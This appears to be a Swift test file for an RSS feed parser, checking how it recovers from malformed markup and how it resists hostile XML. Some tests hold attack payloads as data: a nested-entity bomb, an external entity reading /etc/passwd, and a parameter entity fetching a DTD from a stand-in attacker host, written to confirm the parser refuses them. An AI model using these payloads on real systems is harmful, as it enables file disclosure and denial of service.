import RiskSources
import Testing

/// Feeds that are not well-formed, and feeds that mean harm.
struct RecoveryTests {
    private func check(_ channel: String, _ titles: [String?], _ words: String) throws {
        let feed = try read("<rss version=\"2.0\"><channel>\(channel)")
        #expect(feed.entries.map(\.title) == titles)
        #expect(feed.diagnostics.contains { $0.contains(words) }, "\(feed.diagnostics)")
    }

    @Test(
        arguments: [
            (
                "<item><title>One</title></item><item><title>Two</title><desc",
                ["One", "Two"], "ends within <rss>"
            ),
            (
                "<item><title>One</item><item><title>Two</title></item></channel></rss>",
                ["One", "Two"], "closes what was left open"
            ),
            (
                "<item><title>One<link>x</link></item></channel></rss>", ["One"],
                "<title> is left open before <link>"
            ),
            (
                "<item><title>One</title><item><title>Two</title></item></channel></rss>",
                ["One", "Two"], "<item> within another"
            ),
            (
                "</image><item></height><title>One</title></item></channel></rss>", ["One"],
                "closes nothing"
            ),
            (
                "<item><title>AT&T & co</title></item></channel></rss>", ["AT&T & co"],
                "begins no entity"
            ),
            ("<item><title>1 < 2</title></item></channel></rss>", ["1 < 2"], "begins no tag"),
            ("<item><title>a\u{8}b</title></item></channel></rss>", ["ab"], "control characters"),
            (
                "<item><link href=x checked><title>One</title></item></channel></rss>", ["One"],
                "attributes without quotes"
            ),
            ("<item><title><![CDATA[One", ["One"], "CDATA section does not end"),
            ("<item><title>One</title></item></channel></rss><script/>", ["One"], "is left out"),
        ] as [(String, [String?], String)]
    )
    func whatCanBeReadIsReadAndTheFaultTold(
        _ channel: String,
        _ titles: [String?],
        _ words: String
    ) throws {
        try check(channel, titles, words)
    }

    @Test(arguments: [
        ("&eacute;&nbsp;x &hellip; &rsquo;", "é x … ’"), ("&#233;&#xE9;&#XE9;", "ééé"),
        ("&#146;&#x96;", "’–"), ("a &#1114112; b &#55296; c", "a \u{FFFD} b \u{FFFD} c"),
        ("&#8217 x", "’ x"), ("&doesnotexist; &amp; &lt;", "&doesnotexist; & <"),
        ("don\u{92}t", "don’t"), ("a&#0;&#8;b", "ab"),
    ])
    func referencesAreRead(_ text: String, _ title: String) throws {
        #expect(try item("<title>\(text)</title>")?.title == title)
    }

    @Test func textsThatADocumentDeclaresAreRead() throws {
        let feed = try read(
            #"<!DOCTYPE rss [<!ENTITY path "C:\new"> <!ENTITY e "&#233;">]><rss><channel><title>&path; &e;</title></channel></rss>"#
        )
        #expect(feed.title == #"C:\new é"#)
        #expect(feed.diagnostics == [])
    }

    @Test func entityBombsAndFilesAreRefused() throws {
        let bomb = (1...30).map { "<!ENTITY a\($0) \"&a\($0 - 1);&a\($0 - 1);\">" }.joined()
        let feed = try read(
            """
            <?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a0 "lol">\(bomb)<!ENTITY f SYSTEM "file:///etc/passwd">
            <!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>
            <rss><channel><title>&a30; &f;</title></channel></rss>
            """
        )
        #expect(feed.title == "&a30; &f;")
        #expect(feed.diagnostics.contains { $0.hasPrefix("entities that hold others") })
    }

    @Test func aLongTextIsNotRepeatedWithoutEnd() throws {
        let text = String(repeating: "x", count: 200)
        let references = String(repeating: "&a;", count: 100_000)
        let feed = try read(
            "<!DOCTYPE rss [<!ENTITY a '\(text)'>]><rss><channel><item><description>\(references)"
        )
        let summary = try #require(feed.entries.first?.summary)
        #expect(summary.hasPrefix(text))
        #expect(summary.contains("&a;&a;"))
    }

    @Test func aDocumentTypeThatNamesAFileIsNotFetched() throws {
        let feed = try read(
            """
            <!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">
            <rss version="0.91"><channel><title>T</title></channel></rss>
            """
        )
        #expect(feed.title == "T")
        #expect(feed.diagnostics == [])
    }

    @Test func nestingIsBounded() throws {
        let deep = String(repeating: "<a>", count: 300_000)
        let feed = try read(
            "<rss><channel><item><title>One</title></item><item>\(deep)</item></channel></rss>"
        )
        #expect(feed.entries.first?.title == "One")
        #expect(feed.diagnostics.contains { $0.contains("deep are read as text") })
    }

    /// Each of these costs a naive reader the square of its length: a quarter of an hour, where a sanitizer, twenty times
    /// as slow, takes a minute.
    @Test(
        .timeLimit(.minutes(5)),
        arguments: [
            "<a b=\"", "<a b='x' d='", "<!--", "<?x ", "<!DOCTYPE [", "</x>", "<a x:y='1'", "&#",
            "<x:",
            "<![CDATA[", "<item><item>", "&amp", "<p class=\"", "<!", "]]>",
        ]
    )
    func repetitionEnds(_ piece: String) throws {
        let text = String(repeating: piece, count: 40_000)
        _ = try? read("<rss><channel><item><description>\(text)")
        _ = try item("<description><![CDATA[\(text)]]></description>")
    }

    @Test(.timeLimit(.minutes(5)))
    func attributesNamesAndNamespacesAreBounded() throws {
        let attributes = (0..<100_000).map { "a\($0)='1'" }.joined(separator: " ")
        let namespaces = (0..<250).map { "xmlns:n\($0)='u'" }.joined(separator: " ")
        let nested = String(repeating: "<a \(namespaces)>", count: 50)
        let unknown = String(repeating: "<z:b/>", count: 10_000)
        let names = (0..<20_000).map { "<a\($0)/>" }.joined()
        let feed = try read("<rss><channel><item><title>T</title></item>\(names)")
        #expect(feed.entries.map(\.title) == ["T"])
        #expect(feed.diagnostics.contains { $0.contains("more elements, names or namespaces") })
        _ = try read("<rss><channel \(attributes)><title>T</title>\(nested)\(unknown)")
    }
}
